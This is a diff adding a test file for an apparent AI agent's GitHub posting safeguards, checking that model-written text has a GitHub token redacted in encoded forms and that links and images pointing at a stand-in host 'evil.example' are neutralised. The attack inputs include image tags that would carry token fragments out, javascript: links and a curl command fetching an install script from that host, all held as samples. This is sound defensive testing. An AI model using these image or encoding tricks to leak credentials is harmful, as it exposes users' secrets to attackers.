@@ -1,0 +1,81 @@
+/**
+ * What Recall posts that the model wrote: credentials in their encoded forms, and links and images
+ * that would carry data to another host (RFC-005). The e2e test in security-posting.test.ts posts
+ * through the bundled action.
+ */
+import { describe, expect, it } from 'vitest';
+import { redactCredentials } from '../../src/agent/credentials.js';
+import { neutralizeLinks } from '../../src/github/outbound.js';
+
+const TOKEN = 'ghs_16C7e42F292c6912E7710c838347Ae178B4a';
+
+describe('redaction', () => {
+  it.each([
+    ['as it is', TOKEN],
+    ['base64', Buffer.from(TOKEN).toString('base64')],
+    ['base64url', Buffer.from(`??${TOKEN}`).toString('base64url')],
+    ['hex', Buffer.from(TOKEN).toString('hex')],
+    ['HEX', Buffer.from(TOKEN).toString('hex').toUpperCase()],
+    ['percent-encoded', encodeURIComponent(`${TOKEN}/`).replace('/', '%2F')],
+    ['spaced out', [...TOKEN].join(' ')],
+    ['dashed', [...TOKEN].join('-')],
+    ["git's extraheader (base64 of x-access-token:<token>)", Buffer.from(`x-access-token:${TOKEN}`).toString('base64')],
+    ['base64 at another offset', Buffer.from(`a${TOKEN}`).toString('base64')],
+    ['base64 at a third offset', Buffer.from(`ab${TOKEN}`).toString('base64')],
+  ])('takes the credential out %s', (_how, form) => {
+    const out = redactCredentials(`before ${form} after`, [TOKEN]);
+    expect(out).toContain('[redacted]');
+    expect(out).not.toContain(TOKEN);
+    // The middle of the encoded form, which only the token's bytes make, is gone.
+    const middle = Math.floor(form.length / 2);
+    expect(out).not.toContain(form.slice(middle - 5, middle + 5));
+  });
+
+  it('leaves ordinary text alone', () => {
+    expect(redactCredentials('The fix is in src/auth.ts line 12.', [TOKEN])).toBe('The fix is in src/auth.ts line 12.');
+  });
+});
+
+describe('links and images in what is posted', () => {
+  const gh = 'https://github.com';
+  it('an image on another host becomes text: GitHub would fetch it server-side', () => {
+    const out = neutralizeLinks(`Done. ![status](https://evil.example/p.png?d=${TOKEN.slice(0, 10)})`, gh);
+    expect(out).toBe('Done. status (image removed: evil.example)');
+  });
+
+  it('reference images, HTML media, protocol-relative and entity-spelled URLs do not load either', () => {
+    for (const attack of [
+      '![x][r]\n\n[r]: https://evil.example/a.png',
+      '<img src="https://evil.example/a.png">',
+      '<picture><source srcset="https://evil.example/a.png"></picture>',
+      '![x](//evil.example/a.png)',
+      '<img src="&#104;ttps://evil.example/a.png">',
+      '[click](javascript:alert(1))',
+    ]) {
+      const out = neutralizeLinks(attack, gh);
+      expect(out, attack).not.toMatch(/!\[[^\]]*\]\((?!\s)|<img|<source|\]\(\/\/|\]: https|&#104;|\]\(javascript/i);
+    }
+  });
+
+  it('links elsewhere become code, readable and not clickable; GitHub links and code blocks stay', () => {
+    const text = [
+      'See [the docs](https://nodejs.org/api/fs.html) and https://evil.example/?q=1 and <https://evil.example/x>.',
+      'The PR: https://github.com/acme/app/pull/3 and [issue](https://github.com/acme/app/issues/1), [file](src/a.ts).',
+      '![shot](https://user-images.githubusercontent.com/1/x.png)',
+      '```sh\ncurl https://evil.example/install.sh\n```',
+      'Run `curl https://evil.example` here.',
+    ].join('\n');
+    const out = neutralizeLinks(text, gh);
+    expect(out).toContain('the docs (`https://nodejs.org/api/fs.html`)');
+    expect(out).toContain('`https://evil.example/?q=1`');
+    expect(out).toContain('`https://evil.example/x`');
+    expect(out).toContain('https://github.com/acme/app/pull/3 and [issue](https://github.com/acme/app/issues/1), [file](src/a.ts)');
+    expect(out).toContain('![shot](https://user-images.githubusercontent.com/1/x.png)');
+    expect(out).toContain('```sh\ncurl https://evil.example/install.sh\n```');
+    expect(out).toContain('Run `curl https://evil.example` here.');
+  });
+
+  it('on GitHub Enterprise, its own host keeps its links', () => {
+    expect(neutralizeLinks('[x](https://ghe.acme.internal/o/r/pull/1)', 'https://ghe.acme.internal')).toBe('[x](https://ghe.acme.internal/o/r/pull/1)');
+  });
+});
